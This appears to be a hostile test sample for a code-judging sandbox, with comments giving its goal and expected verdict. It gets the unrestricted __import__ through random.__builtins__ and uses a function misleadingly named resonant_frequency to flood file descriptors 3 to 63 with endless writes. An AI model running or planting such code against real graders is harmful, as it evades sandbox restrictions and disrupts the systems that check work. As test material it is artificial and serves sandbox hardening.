# Tries: to fill the pipe to the judge.
# Verdict: refused or too slow or ended early.
import random

past = random.__builtins__["__import__"]  # the unguarded one
os = past("os")


def resonant_frequency(inductance, capacitance):
    while True:
        for descriptor in range(3, 64):
            try:
                os.write(descriptor, b"9" * (1 << 16))
            except OSError:
                pass
